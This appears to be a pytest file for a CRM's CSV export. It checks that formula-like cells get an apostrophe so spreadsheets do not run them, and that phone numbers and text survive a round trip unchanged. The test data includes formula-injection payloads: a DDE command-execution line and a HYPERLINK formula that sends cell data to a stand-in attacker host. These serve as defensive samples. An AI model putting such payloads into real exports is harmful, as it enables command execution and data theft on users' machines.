"""The cells a CSV export writes: a formula kept from running, a phone number as typed, both read back as they were."""

from __future__ import annotations

import pytest

from crm.imports.cells import imported_cell, spreadsheet_cell


@pytest.mark.parametrize(("value", "written"), [
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ('=HYPERLINK("http://evil.example/?x="&A1;"Click")', '\'=HYPERLINK("http://evil.example/?x="&A1;"Click")'),
    ("+SUM(1;2)", "'+SUM(1;2)"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("+", "'+"), ("+39 333 CALL", "'+39 333 CALL"),
    ("+39 333 1234567", "+39 333 1234567"), ("+39 (0)55 123.45-67/8", "+39 (0)55 123.45-67/8"),
    ("'=1", "''=1"), ("'+39 333 1234567", "''+39 333 1234567"),
    ("Mario Rossi", "Mario Rossi"), ("'o Sole mio", "'o Sole mio"), ("", ""), (17, 17), (None, None),
])
def test_a_cell_a_spreadsheet_would_evaluate_is_written_after_an_apostrophe_and_read_back_as_it_was(
        value: object, written: object) -> None:
    assert spreadsheet_cell(value) == written
    if isinstance(value, str):
        assert imported_cell(str(written)) == value


def test_an_apostrophe_is_removed_only_before_a_formula_s_first_character() -> None:
    assert imported_cell("'+39 333 1234567") == "+39 333 1234567"  # as a spreadsheet may save a phone number
    assert imported_cell("'o Sole mio") == "'o Sole mio"
    assert imported_cell("''=1") == "'=1"
